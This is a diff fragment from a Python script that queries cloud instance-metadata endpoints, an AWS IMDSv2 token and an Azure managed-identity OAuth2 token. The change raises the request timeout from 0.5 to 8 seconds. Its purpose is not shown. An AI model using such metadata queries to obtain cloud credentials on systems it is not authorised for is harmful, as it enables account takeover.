@@ -14,7 +14,7 @@ AZURE = "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-
 
 def ask(address: str, method: str = "GET", **headers: str) -> str:
     named = {name.replace("_", "-"): value for name, value in headers.items()}
-    return str(urlopen(Request(address, method=method, headers=named), timeout=0.5).read().decode())
+    return str(urlopen(Request(address, method=method, headers=named), timeout=8).read().decode())
 
 
 token = ask(f"{AWS}/api/token", "PUT", X_aws_ec2_metadata_token_ttl_seconds="21600")
